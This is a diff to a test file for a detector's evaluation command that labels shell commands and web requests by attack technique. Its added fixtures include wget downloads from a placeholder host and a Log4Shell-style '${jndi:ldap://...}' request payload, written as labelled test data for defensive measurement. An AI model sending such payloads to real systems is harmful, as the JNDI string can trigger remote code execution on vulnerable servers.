@@ -13,6 +13,17 @@ const CORPUS = {
     lines: ["true", "uname -a"],
   }),
   "plain.txt": "ls -la\nuseradd -m somebody\n",
+  "abuse.jsonl": JSON.stringify({
+    id: "g",
+    function: "download",
+    program: "wget",
+    line: "wget http://192.0.2.1/x",
+  }),
+  "requests.jsonl": [
+    { id: "w1", label: "attack", requests: [{ raw_url: "/?x=${jndi:ldap://192.0.2.1/a}" }] },
+    { id: "w2", label: "ordinary", requests: [{ raw_url: "/index.html" }] },
+  ].map((item) => JSON.stringify(item)).join("\n"),
+  "traffic.jsonl": JSON.stringify({ count: 3, input: "cd /tmp" }),
 };
 
 const files = (path: string): readonly string[] =>
@@ -30,11 +41,46 @@ Deno.test("eval measures honeypot lines, tests and ordinary commands in one run"
   assert.deepEqual(report.misses[0].technique, "T1485");
 });
 
+Deno.test("eval measures abused programs, requests and traffic in the same run", async () => {
+  using corpus = directoryWith(CORPUS);
+  const { out } = await runCaptured(["eval", "--json", ...files(corpus.path)]);
+  const { abuse, requests, traffic } = JSON.parse(out);
+  assert.equal(abuse.groups.download.share, 1);
+  assert.deepEqual([requests.attack.share, requests.ordinary.noise], [1, 0]);
+  assert.deepEqual([traffic.typed, traffic.typed_labelled], [3, 0]);
+});
+
+Deno.test("eval --split measures each entry in one of the two parts", async () => {
+  const lines = Array.from({ length: 40 }, (_, index) => ({
+    input: `wget http://192.0.2.1/${index}`,
+    must: ["T1105"],
+  }));
+  using corpus = directoryWith({
+    "lines.jsonl": lines.map((line) => JSON.stringify(line)).join("\n"),
+  });
+  const counts: number[] = [];
+  for (const split of ["train", "test"]) {
+    const { out } = await runCaptured([
+      "eval",
+      "--json",
+      `${corpus.path}/lines.jsonl`,
+      "--split",
+      split,
+    ]);
+    counts.push(JSON.parse(out).honeypot?.count ?? 0);
+  }
+  const [train = 0, test = 0] = counts;
+  assert.ok(test > 0 && train > test, counts.join());
+  assert.equal(train + test, 40);
+});
+
 Deno.test("eval prints tables for people", async () => {
   using corpus = directoryWith(CORPUS);
   const { code, out } = await runCaptured(["eval", ...files(corpus.path)]);
   assert.equal(code, 0);
   assert.match(out, /tests +1 +exact recall +100\.00 %/);
+  assert.match(out, /web attacks +1 +any technique +100\.00 %/);
+  assert.match(out, /0\.8 to 0\.9 +1 +1 +0 +0 +100\.00 %/);
   assert.match(out, /Misses \(1\)\n.*\nT1485 +c /);
 });
 
@@ -69,6 +115,7 @@ Deno.test("eval --compare shows what has changed since an earlier run", async ()
 const REFUSED: readonly (readonly [what: string, args: readonly string[], message: RegExp])[] = [
   ["a figure that there is not", ["--min", "beauty=1"], /no figure beauty/],
   ["a limit that is no number", ["--min", "f1=high"], /--min needs a number/],
+  ["a part that there is not", ["--split", "half"], /use all, train or test/],
   ["a comparison that is not there", ["--compare", "/nonexistent.json"], /cannot read/],
 ];
 
